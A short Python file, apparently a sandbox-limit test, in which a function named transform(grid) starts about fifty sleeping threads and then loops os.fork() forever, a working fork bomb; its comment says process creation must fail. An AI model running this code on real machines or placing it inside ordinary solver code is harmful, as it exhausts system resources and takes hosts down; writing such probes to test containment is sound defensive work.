# Classic fork bomb, plus a thread bomb: process creation must fail.
import os
import threading
import time


def transform(grid):
    threads = 0
    try:
        while True:
            threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
            threads += 1
            if threads > 50:
                break
    except RuntimeError:
        pass
    while True:
        os.fork()
